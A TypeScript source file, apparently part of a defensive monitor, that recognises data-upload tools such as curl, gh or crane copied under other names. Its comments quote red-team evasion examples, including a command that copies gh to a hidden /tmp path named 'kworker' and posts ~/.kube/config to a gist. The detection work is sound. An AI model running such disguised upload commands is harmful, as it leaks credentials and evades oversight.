/**
 * A program started from a scratch or hidden directory or fileless (./locations.ts), no table tool or one whose
 * own reading found no push, whose command line has a table tool's push shape: that tool, copied under another
 * name. Only there: elsewhere, many programs take `-d`, `-F` or `-T` and a URL, or say `push` or `copy`.
 */
import type { PushRecognition, SignerRecognition } from './recognize.js';
import type { PushToolSpec } from './types.js';

type Match = (spec: PushToolSpec) => PushRecognition | SignerRecognition | 'download' | null;

/**
 * A generic uploader (curl, wget: `cp "$(command -v curl)" /tmp/x`; found by red-team review, a few KiB posted
 * to a gist that way raised nothing); else a forge or registry client whose push is a sub-command of its own
 * (PushToolSpec.copiedShape; found by a later red-team review: `cp "$(command -v gh)" /tmp/.x/kworker;
 * /tmp/.x/kworker gist create ~/.kube/config` raised nothing either).
 */
export function recognizeCopy(
  index: { uploaders: readonly PushToolSpec[]; copied: readonly PushToolSpec[] },
  match: Match,
): PushRecognition | null {
  for (const spec of index.uploaders) {
    const r = match(spec);
    if (r && r !== 'download' && r.kind === 'push') return { ...r, renamed: true };
  }
  const clients: PushRecognition[] = [];
  for (const spec of index.copied) {
    const r = match(spec);
    if (r && r !== 'download' && r.kind === 'push') clients.push(r);
  }
  return bestCopiedClient(clients);
}

const DOTTED_HOST = /^(?:[a-z0-9-]+\.)+[a-z0-9-]+$/;

/**
 * Several clients may take the same words (`push REF FILE` is oras's, `push TAR REF` crane's, `copy SRC DST`
 * crane's and skopeo's): the one whose remote gives a host wins, a transport prefix the tool declares
 * (`docker://`, `oci://`) first; ties go to the table's order. Marked renamed: no such tool has that name.
 */
function bestCopiedClient(matches: readonly PushRecognition[]): PushRecognition | null {
  let best: { r: PushRecognition; rank: number } | null = null;
  for (const r of matches) {
    if (!namesItsRegistry(r)) continue;
    const rank = (r.destinationHost === null ? 0 : 1) + (declaresPrefixOf(r.spec, r.remote) ? 2 : 0);
    if (best === null || rank > best.rank) best = { r, rank };
  }
  return best === null ? null : { ...best.r, renamed: true };
}

/**
 * An image client's copy must name a registry in its remote (`ghcr.io/evil/x`): a bare `x` or a path would be
 * Docker Hub to the tool, and is what any program's `copy a b` or `push app` says. A URL of another scheme is
 * no image reference: `push https://github.com/evil/x.git HEAD` is a copied git's, seen by its helpers. A
 * copied git itself only over `git://`, which it speaks in its own process (no helper, no ssh): `push URL` is
 * what any notifier says of an https URL.
 */
function namesItsRegistry(r: PushRecognition): boolean {
  if (r.spec.destination === 'git-remote') return /^git:\/\//i.test(r.remote ?? '');
  if (r.spec.destination !== 'image-ref') return true;
  const host = r.destinationHost;
  const remote = (r.remote ?? '').toLowerCase();
  if (/^[a-z][a-z0-9+.-]*:\/\//.test(remote) && !/^(?:docker|oci):\/\//.test(remote)) return false;
  return host !== null && DOTTED_HOST.test(host) && remote.includes(host);
}

function declaresPrefixOf(spec: PushToolSpec, remote: string | null): boolean {
  if (remote === null || spec.match.kind !== 'subcommand') return false;
  const lower = remote.toLowerCase();
  return spec.match.commands.some((c) => c.remotePrefix?.some((p) => lower.startsWith(p)) === true);
}
